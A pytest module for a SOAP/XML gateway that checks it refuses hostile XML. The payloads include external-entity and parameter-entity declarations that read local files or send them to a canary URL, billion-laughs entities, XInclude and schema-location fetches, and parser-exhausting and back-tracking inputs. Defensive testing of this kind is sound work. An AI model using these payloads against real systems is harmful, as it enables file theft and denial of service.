"""What a parser can be made to fetch, expand, hold or misread (standards catalogue 5.3)."""

import itertools
from pathlib import Path

import pytest
from lxml import etree

from gateway.errors import (
    AlgorithmForbidden,
    ForbiddenHeader,
    GatewayError,
    MalformedEnvelope,
    NotUtf8,
    NotXml,
    ReferenceMissing,
    SchemaInvalid,
    SecurityMissing,
    SignatureInvalid,
    TooLarge,
)
from tests.foreign import S
from tests.hostile.attack import CAP, SURNAME, Target, message
from tests.line import KN, SR, code

pytestmark = pytest.mark.clause("§5.3")

XI = "http://www.w3.org/2001/XInclude"
XSI = "http://www.w3.org/2001/XMLSchema-instance"
ENC = "http://schemas.xmlsoap.org/soap/encoding/"


def put(octets: bytes, inside: bytes, *, instead: bytes = SURNAME.encode()) -> bytes:
    assert instead in octets
    return octets.replace(instead, inside, 1)


# --- entities, DTDs, fetching ---------------------------------------------------------------------

SUBSETS = {
    "external entity, file": '[<!ENTITY x SYSTEM "{file}">]',
    "external entity, http": '[<!ENTITY x SYSTEM "{canary}">]',
    "external entity, public": '[<!ENTITY x PUBLIC "-//X//X" "{canary}">]',
    "external entity, jar": '[<!ENTITY x SYSTEM "jar:{canary}!/x">]',
    "external entity, netdoc": '[<!ENTITY x SYSTEM "netdoc:/etc/hostname">]',
    "parameter entity": '[<!ENTITY % p SYSTEM "{canary}"> %p; <!ENTITY x "">]',
    "parameter entity that builds another": (
        '[<!ENTITY % f SYSTEM "{file}">'
        ' <!ENTITY % e "<!ENTITY &#37; s SYSTEM \'{canary}?%f;\'>"> %e; %s;]'),
    "external subset": 'SYSTEM "{canary}"',
    "external subset, public": 'PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "{canary}"',
    "unparsed entity": '[<!NOTATION n SYSTEM "{canary}"> <!ENTITY x SYSTEM "{canary}" NDATA n>]',
    "billion laughs": "[<!ENTITY x0 'lol'>" + "".join(
        f"<!ENTITY x{n + 1} '{f'&x{n};' * 10}'>" for n in range(8)) + "<!ENTITY x '&x8;'>]",
    "recursive entity": '[<!ENTITY a "&b;"> <!ENTITY b "&a;"> <!ENTITY x "&a;">]',
    "default attribute": '[<!ATTLIST s:Body x CDATA "y">]',
    "empty": "[]",
    "bare": "",
}


@pytest.mark.incident("CVE-2024-40896", "CVE-2026-41066")
@pytest.mark.clause("BP R1008")
@pytest.mark.parametrize("declared", [False, True])
@pytest.mark.parametrize("subset", SUBSETS)
def test_a_document_type(target: Target, subset: str, declared: bool) -> None:
    """With the entity used in the message, in front of an otherwise good request; refused before it is parsed."""
    doctype = f"<!DOCTYPE s:Envelope {target.plant(SUBSETS[subset])}>"
    prolog = '<?xml version="1.0" encoding="UTF-8"?>\n' if declared else ""
    used = target.signed() if "x " not in SUBSETS[subset] else put(target.signed(), b"&x;")
    target.repels((prolog + doctype).encode() + used, NotXml, reason="DTD", cpu=0.05)


def test_a_quadratic_entity(target: Target) -> None:
    doctype = f"<!DOCTYPE x [<!ENTITY a '{'a' * 50_000}'>]>".encode()
    target.repels(doctype + put(target.signed(), b"&a;" * 50_000), NotXml, reason="DTD", cpu=0.1)


@pytest.mark.clause("BP R1008", "WS006")
@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-7", "cp037"])
def test_a_document_type_in_another_encoding(target: Target, encoding: str) -> None:
    declared = {"utf-7": "UTF-7", "cp037": "EBCDIC-CP-US"}.get(encoding, "UTF-16")
    text = (f'<?xml version="1.0" encoding="{declared}"?><!DOCTYPE x [<!ENTITY x SYSTEM "{target.canary.url}">]>'
            + target.signed().decode())
    octets = text.encode(encoding)
    if encoding == "utf-7":  # the declaration itself must be read as ASCII
        octets = text[: text.index("<!")].encode() + text[text.index("<!"):].encode("utf-7")
    target.repels(octets, NotUtf8)


@pytest.mark.incident("CVE-2013-4517")
@pytest.mark.clause("BP R1008")
def test_a_document_type_in_the_middle(target: Target) -> None:
    for place in (b"<s:Header>", b"<s:Body", b"<sr:Klant>"):
        target.repels(target.signed().replace(place, b"<!DOCTYPE x []>" + place, 1), NotXml)
    target.repels(target.signed() + b"<!DOCTYPE x>", NotXml)


@pytest.mark.parametrize("name", ["x", "nbsp", "eacute", "x9999"])
def test_undeclared_entities(target: Target, name: str) -> None:
    target.repels(put(target.signed(), f"&{name};".encode()), NotXml)


@pytest.mark.parametrize("number", ["&#0;", "&#x1;", "&#xFFFE;", "&#xD800;", "&#x110000;", "&#99999999999;"])
def test_references_to_no_character(target: Target, number: str) -> None:
    target.repels(put(target.signed(), number.encode()), NotXml)


@pytest.mark.parametrize("signed", [True, False])
def test_xinclude(target: Target, signed: bool) -> None:
    for attribute in (f'href="{target.canary.url}"', 'href="{file}" parse="text"', 'xpointer="x"'):
        include = f'<xi:include xmlns:xi="{XI}" {target.plant(attribute)}/>'.encode()
        octets = target.signed(put(message(), include)) if signed else put(target.signed(), include)
        target.repels(octets, SchemaInvalid if signed else SignatureInvalid)


@pytest.mark.parametrize("name", ["schemaLocation", "noNamespaceSchemaLocation"])
@pytest.mark.parametrize("place", [b"<s:Envelope", b"<s:Header", b"<s:Body", b"<sr:Kennisgeving", b"<kn:Achternaam"])
def test_schema_locations(target: Target, place: bytes, name: str) -> None:
    """Signed by who may sign, on every level. On envelope and header they bind nobody; the canary knows."""
    value = target.canary.url if name.startswith("no") else f"urn:x {target.canary.url} {SR} {target.canary.url}"
    hint = f' xmlns:xsi="{XSI}" xsi:{name}="{value}"'.encode()
    octets = target.signed(message().replace(place, place + hint, 1)).replace(
        place, place + hint if place.startswith(b"<s:") else place, 1)
    if place == b"<s:Body":
        target.repels(octets, MalformedEnvelope, reason="Body has an attribute")
    elif place.startswith(b"<s:"):
        assert target.line.post(octets).status == 200
        assert target.canary.visits() == 0
    else:
        target.repels(octets, SchemaInvalid, reason="xsi-attribute")


@pytest.mark.clause("BP R1009")
def test_a_stylesheet(target: Target) -> None:
    for octets in (
        f'<?xml-stylesheet type="text/xsl" href="{target.canary.url}"?>'.encode() + target.signed(),
        target.signed() + f'<?xml-stylesheet href="{target.canary.url}"?>'.encode(),
        target.signed().replace(b"<sr:Klant>", b"<?php x?><sr:Klant>", 1),
        target.signed().replace(b"<s:Header>", b"<?x?><s:Header>", 1),
    ):
        target.repels(octets, *([NotXml] if octets.startswith(b"<?xml-") else [MalformedEnvelope]))


# --- size, depth, width ---------------------------------------------------------------------------

def padded(octets: bytes, size: int) -> bytes:
    """The same request in exactly `size` octets: white space where nothing is signed, in two text nodes."""
    missing = size - len(octets)
    half = missing // 2
    first = octets.replace(b"<s:Header>", b" " * half + b"<s:Header>", 1)
    return first.replace(b"</s:Header>", b"</s:Header>" + b" " * (missing - half), 1)


@pytest.mark.parametrize("over", [-1, 0, 1])
def test_the_size_limit_is_exact(target: Target, over: int) -> None:
    octets = padded(target.signed(), CAP + over)
    assert len(octets) == CAP + over
    if over > 0:
        target.repels(octets, TooLarge)
    else:
        assert target.line.post(octets).status == 200


def test_far_too_large_costs_nothing(target: Target) -> None:
    target.repels(b"<" * (3 * CAP), TooLarge, cpu=0.1)


@pytest.mark.incident("CVE-2025-54572")
def test_long_values(target: Target) -> None:
    """libxml2 stops at 10,000,000 characters of text; below that a pattern would take 350 MB to say no."""
    target.repels(target.signed(message(surname="x" * 9_900_000)), SchemaInvalid, reason="value-length")
    target.repels(target.signed(message(surname="x " * 5_000)), SchemaInvalid, reason="value-length", cpu=0.1)
    target.repels(put(target.signed(), b"x" * 10_100_000), TooLarge, reason="10000000 characters")
    target.repels(put(target.signed(), b"&#65;" * 1_900_000), SignatureInvalid)
    long = b'<sr:Klant a="' + b"x" * 9_900_000 + b'">'
    target.repels(target.signed().replace(b"<sr:Klant>", long, 1), SignatureInvalid)


def test_as_much_text_as_ever_fits(target: Target) -> None:
    """Every value short of the bound at which it is refused unread, and as many as there may be."""
    line = (b"<sr:Vordering><sr:FactuurnummerSEVolgensSHV>" + b"x " * 4_000
            + b"</sr:FactuurnummerSEVolgensSHV></sr:Vordering>")
    child = message().replace(b"</sr:Vorderingen>", line * 490 + b"</sr:Vorderingen>")
    target.repels(target.signed(child), SchemaInvalid, cpu=2.0)


def test_as_many_mistakes_as_fit(target: Target) -> None:
    """Each of them would be formatted for a fault that names twenty."""
    child = message().replace(b"</sr:Vorderingen>", b"<sr:Vordering><sr:Fout/></sr:Vordering>" * 24_000
                              + b"</sr:Vorderingen>")
    target.repels(target.signed(child), SchemaInvalid, cpu=2.0)


def nested(depth: int) -> bytes:
    return b"<a>" * depth + b"</a>" * depth


@pytest.mark.parametrize(("depth", "error"), [
    (60, MalformedEnvelope), (100, MalformedEnvelope), (250, MalformedEnvelope), (256, NotXml), (257, NotXml),
    (40_000, NotXml), (100_000, MalformedEnvelope)])
def test_depth(target: Target, depth: int, error: type) -> None:
    """64 levels; libxml2's own limit of 256 and the count of tags come first for more."""
    target.repels(put(target.signed(), nested(depth)), error, cpu=0.3)


def test_a_stream_of_open_tags(target: Target) -> None:
    target.repels(put(target.signed(), b"<a>" * 90_000), NotXml, cpu=0.3)
    target.repels(put(target.signed(), b"<a>" * 1_000_000), MalformedEnvelope, cpu=0.3)


def test_the_deepest_that_is_taken_is_64(target: Target) -> None:
    """Envelope, Body and message stand on the first three levels."""
    for extra, error in ((61, SignatureInvalid), (62, MalformedEnvelope)):
        target.repels(target.signed().replace(b"<sr:Klant>", nested(extra) + b"<sr:Klant>", 1), error)


@pytest.mark.parametrize("count", [600, 10_000, 49_000, 99_000, 200_000])
@pytest.mark.parametrize("company", [0, 9_000])
def test_attributes(target: Target, count: int, company: int) -> None:
    """On one element, also in the company of many that have none; 50,000 cost 6 s of CPU once."""
    crowd = b"<sr:Klant " + b" ".join(b'a%05d="x"' % number for number in range(count)) + b">"
    target.repels(target.signed().replace(b"<sr:Klant>", crowd + b"<a/>" * company, 1), MalformedEnvelope, cpu=0.3)


@pytest.mark.incident("CVE-2012-0841")
def test_attributes_whose_names_collide(target: Target) -> None:
    """Names that fell into one bucket of the old hash of libxml2 (CVE-2012-0841)."""
    names = ["".join(one) for one in itertools.product(("Ez", "FY"), repeat=12)]
    crowd = ("<sr:Klant " + " ".join(f'{name}="x"' for name in names) + ">").encode()
    target.repels(target.signed().replace(b"<sr:Klant>", crowd, 1), MalformedEnvelope, cpu=0.3)
    spread = "".join("<sr:x " + " ".join(f'{name}="x"' for name in names[i:i + 60]) + "/>" for i in range(0, 4096, 60))
    target.repels(put(target.signed(), spread.encode()), MalformedEnvelope, cpu=0.3)


def declarations(count: int) -> bytes:
    return b" ".join(b'xmlns:n%d="urn:%d"' % (number, number) for number in range(count))


@pytest.mark.parametrize("place", [b"<s:Envelope ", b"<s:Header ", b"<o:Security ", b"<Signature "])
@pytest.mark.parametrize("count", [257, 10_000, 19_000])
def test_namespace_declarations_above_a_signed_part(target: Target, place: bytes, count: int) -> None:
    """They are in no digest, so anyone who takes a good request may add them; 50,000 cost 50 s of CPU once."""
    octets = target.signed().replace(b"<s:Header>", b"<s:Header >", 1)
    assert place in octets
    target.repels(octets.replace(place, place + declarations(count) + b" ", 1), MalformedEnvelope,
                  reason="namespace declarations", cpu=0.3)


def test_as_many_declarations_as_are_taken_are_cheap(target: Target) -> None:
    octets = target.signed().replace(b"<s:Envelope ", b"<s:Envelope " + declarations(250) + b" ", 1)
    reply = target.line.post(octets)
    assert (reply.status, code(reply)) == (200, None)


def test_declarations_in_the_message(target: Target) -> None:
    """c14n bombs: many declared, deep or wide, used or not. Each is linear, and none of it is signed."""
    deep = b"".join(b"<e%d %s>" % (level, declarations(900)) for level in range(54))
    ends = b"".join(b"</e%d>" % level for level in reversed(range(54)))
    used = b" ".join(b'n%d:a="x"' % number for number in range(60))
    wide = b"<x %s>" % declarations(60) + b"<y %s/>" % used * 900 + b"</x>"
    last = b"<x %s>" % declarations(19_000) + b"<n18999:y/>" * 45_000 + b"</x>"
    for bomb, error in ((deep + ends, MalformedEnvelope), (wide, MalformedEnvelope), (last, SignatureInvalid)):
        target.repels(put(target.signed(), bomb), error, cpu=0.7)
    many = b"<x xmlns:n='urn:n' xmlns:m='urn:m'/>" * 49_000
    target.repels(put(target.signed(), many), MalformedEnvelope, reason="more quotes", cpu=0.1)


def test_siblings(target: Target) -> None:
    target.repels(put(target.signed(), b"<a/>" * 1_000_000), MalformedEnvelope, reason="more tags", cpu=0.3)
    target.repels(put(target.signed(), b"<a/>" * 99_000), SignatureInvalid, cpu=0.7)
    for count, error in ((900, SignatureInvalid), (1_001, MalformedEnvelope), (45_000, MalformedEnvelope)):
        ids = b"".join(b'<a Id="i%d"/>' % number for number in range(count))
        target.repels(put(target.signed(), ids), error, cpu=0.7)
    targets = b"".join(b'<a xml:id="i%d" Id="j%d"/>' % (number, number) for number in range(29_000))
    target.repels(put(target.signed(), targets), MalformedEnvelope, cpu=0.7)


def test_an_id_of_marks_that_sort_slowly(target: Target) -> None:
    """To compose marks takes time with the square of their number; 32,000 took a second, 10 MB would take hours."""
    marks = "\u0301\u0316".encode()
    for octets in (put(target.signed(), b'<a Id="' + marks * 1_000_000 + b'"/>'),
                   target.signed().replace(b'u:Id="_To"', b'u:Id="' + marks * 50_000 + b'"', 1)):
        target.repels(octets, ReferenceMissing, cpu=0.5)
    target.repels(put(target.signed(), marks * 30_000), SignatureInvalid, cpu=0.3)


def test_comments_beside_each_other(target: Target) -> None:
    """Asked whether there are any, libxml2 sorted them first: 90,000 cost 9 s."""
    for one in (b"<!---->", b"<?x?>"):
        target.repels(put(target.signed(), one * 90_000), MalformedEnvelope, cpu=0.3)


def test_attributes_all_over(target: Target) -> None:
    """Few on each element; libxml2 tells of each that it does not know."""
    crowd = b"<sr:Vordering %s/>" % b" ".join(b'a%d=""' % number for number in range(15)) * 400
    child = message().replace(b"</sr:Vorderingen>", crowd + b"</sr:Vorderingen>")
    target.repels(target.signed(child), MalformedEnvelope, reason="attributes", cpu=0.2)
    child = message().replace(b"</sr:Vorderingen>", crowd[:len(crowd) // 400 * 60] + b"</sr:Vorderingen>")
    target.repels(target.signed(child), SchemaInvalid, reason="attributes", cpu=0.2)


@pytest.mark.parametrize(("place", "errors"), [
    (b"<s:Header>", (ForbiddenHeader,)), (b"<s:Body ", (MalformedEnvelope,)), (b"</s:Body>", (MalformedEnvelope,)),
    *((place, (SecurityMissing, AlgorithmForbidden)) for place in (
        b"<SignedInfo>", b"</Signature>", b"</o:Security>", b"<KeyInfo>", b"<Transforms>", b"</Reference>"))])
def test_a_crowd_of_children(target: Target, place: bytes, errors: tuple[type[GatewayError], ...]) -> None:
    """Each child that is looked at becomes an object of Python; where a few belong, none of 90,000 is."""
    octets = target.signed()
    assert place in octets
    at = octets.index(place) + (len(place) if place.endswith(b">") and not place.startswith(b"</") else 0)
    target.repels(octets[:at] + b"<a/>" * 90_000 + octets[at:], *errors, cpu=0.3)


@pytest.mark.parametrize("length", [300, 40_000, 60_000, 100_000])
def test_long_names(target: Target, length: int) -> None:
    name = b"n" * length
    error = NotXml if length > 50_000 else SignatureInvalid  # libxml2 takes 50,000
    target.repels(put(target.signed(), b"<" + name + b"/>"), error)
    target.repels(target.signed().replace(b"<sr:Klant>", b"<sr:Klant " + name + b'="">', 1), error)


def test_many_repeated_elements(target: Target) -> None:
    line = b"<sr:Vordering><sr:FactuurnummerSEVolgensSHV>1</sr:FactuurnummerSEVolgensSHV></sr:Vordering>"
    child = message().replace(b"</sr:Vorderingen>", line * 20_000 + b"</sr:Vorderingen>")
    target.repels(target.signed(child), SchemaInvalid)


# --- SOAP encoding and schema attacks -------------------------------------------------------------

@pytest.mark.clause("BP R2113", "WW002")
@pytest.mark.parametrize("attribute", [
    f'xmlns:e="{ENC}" e:arrayType="x[99999999]"', f'xmlns:e="{ENC}" e:root="1"', 'href="#x"', 'id="x"', 'Id="x"',
    'xml:base="{canary}"', 'xml:space="preserve"', 'xml:lang="nl"', 'unknown="x"', f'xmlns:x="{KN}" x:unknown="x"',
])
def test_attributes_no_schema_knows(target: Target, attribute: str) -> None:
    """Signed by who may sign: R2113 and the rest fall under the schema."""
    extra = target.plant(attribute).encode()
    for place in (b"<sr:Vorderingen", b"<kn:Berichtheader", b"<kn:Achternaam", b"<sr:Kennisgeving"):
        target.repels(target.signed(message().replace(place, place + b" " + extra, 1)), SchemaInvalid)


@pytest.mark.clause("BP R1005", "BP R1032", "WW002")
def test_encoding_style(target: Target) -> None:
    extra = f' s:encodingStyle="{ENC}"'.encode()
    for place in (b"<s:Envelope", b"<s:Body", b"<s:Header"):
        target.repels(target.signed().replace(place, place + extra, 1), MalformedEnvelope)
    inside = message().replace(b"<sr:Klant>", f'<sr:Klant xmlns:s="{S}"{extra.decode()}>'.encode())
    target.repels(target.signed(inside), MalformedEnvelope, reason="encodingStyle")


@pytest.mark.clause("BP R1017")
@pytest.mark.parametrize(("name", "value"), [
    ("nil", "true"), ("nil", "1"), ("nil", "false"), ("type", "xs:anyType"), ("type", "kn:PersoonType"), ("type", ""),
    ("unknown", "x")])
def test_schema_instance_attributes(target: Target, name: str, value: str) -> None:
    for place in (b"<sr:Kennisgeving", b"<sr:Klant>", b"<kn:Afzender"):
        extra = f' xmlns:xsi="{XSI}" xmlns:xs="http://www.w3.org/2001/XMLSchema" xsi:{name}="{value}"'.encode()
        tag = place.rstrip(b">")
        target.repels(target.signed(message().replace(place, tag + extra + place[len(tag):], 1)), SchemaInvalid)


def _leaves() -> list[str]:
    return [etree.QName(one).localname for one in etree.fromstring(message()).iter("{*}*") if not len(one)]


TRAPS = ["a" * 5_000 + "!", "1 " * 2_500 + "x", "-." * 2_500 + "0@", "\u0301" * 4_000]


@pytest.mark.parametrize("name", sorted(set(_leaves())))
def test_patterns_do_not_explode(target: Target, name: str) -> None:
    """Each value of a message in turn, with texts made to drive a back-tracking pattern mad."""
    for trap in TRAPS:
        target.repels(target.signed(message(**{name: trap})), SchemaInvalid, cpu=0.5)


@pytest.mark.incident(
    "CVE-2024-56171", "CVE-2025-24928", "CVE-2025-32415",
    "CVE-2025-6021", "CVE-2025-49794", "CVE-2025-49796")
def test_libxml2_is_one_whose_known_holes_are_closed() -> None:
    """CVE-2024-40896, CVE-2024-56171, CVE-2025-24928, -32415, -6021, -49794, -49796; lxml: CVE-2026-41066."""
    assert etree.LIBXML_VERSION >= (2, 14, 5)
    assert etree.LXML_VERSION >= (6, 1, 0)


SCHEMAS = sorted((Path(__file__).parents[2] / "xsd").rglob("*.xsd"))
XSD = "{http://www.w3.org/2001/XMLSchema}"


@pytest.mark.parametrize("path", SCHEMAS, ids=lambda path: "/".join(path.parts[-3:]))
def test_schemas_hold_nothing_that_grows_or_opens(path: Path) -> None:
    """No extension point but the one around a delivered message, no keys to compare, no endless list, no QName."""
    root = etree.parse(path).getroot()
    opens = list(root.iter(f"{XSD}any", f"{XSD}anyAttribute"))
    assert len(opens) == (path.parts[-3:] == ("knooppunt", "1.0", "diensten.xsd")), "only HaalBerichtOp's answer"
    assert not list(root.iter(f"{XSD}key", f"{XSD}unique", f"{XSD}keyref"))
    bounds = [int(one.get("maxOccurs", "1")) for one in root.iter(f"{XSD}*") if one.get("maxOccurs") != "unbounded"]
    assert max(bounds, default=1) <= 2000
    assert not [one for one in root.iter(f"{XSD}*") if one.get("maxOccurs") == "unbounded"]
    types = {one.get(name, "").rpartition(":")[2] for one in root.iter(f"{XSD}*") for name in ("type", "base")}
    assert not types & {"ID", "IDREF", "QName", "anyType", "anySimpleType", "NOTATION"}
